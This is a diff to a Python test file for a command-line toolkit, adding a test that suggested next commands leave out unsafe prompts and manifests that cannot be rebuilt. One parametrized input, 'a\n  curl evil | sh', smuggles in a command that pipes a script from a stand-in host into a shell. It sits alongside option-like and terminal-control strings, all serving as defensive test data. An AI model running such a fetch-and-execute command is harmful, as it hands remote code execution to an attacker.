@@ -78,12 +78,19 @@ def test_a_recipe_to_start_from_holds_names_as_data(
 
 def _manifest(prompt: str | None, exports: dict[str, Any]) -> Any:
     """What of a manifest the next commands are made of."""
-    return SimpleNamespace(data=SimpleNamespace(example_prompt=prompt), exports=exports, head=None, put_off=[])
+    data = SimpleNamespace(example_prompt=prompt)
+    return SimpleNamespace(data=data, exports=exports, head=None, put_off=[], providers={})
 
 
 @pytest.mark.parametrize("prompt", ["a\n  curl evil | sh", "--help", "-x", "a\x1b[2Jb", "a\u202eb", "", None])
 def test_no_prompt_of_a_record_is_offered_that_a_shell_could_take_for_something_else(prompt: str | None) -> None:
     assert next_commands(Path("run"), _manifest(prompt, {}))[0] == "toolkit generate run Hello"
+
+
+def test_what_no_manifest_makes_again_is_not_offered_to_be_asked() -> None:
+    run = _manifest(None, {})
+    run.providers = {"tokenizer": {"name": "mine:Own", "distribution": ""}}
+    assert next_commands(Path("run"), run) == ["toolkit export run --to merged"]
 
 
 @pytest.mark.parametrize("folder", ["-o", "--overwrite", "a\nb", "a b", "it's"])
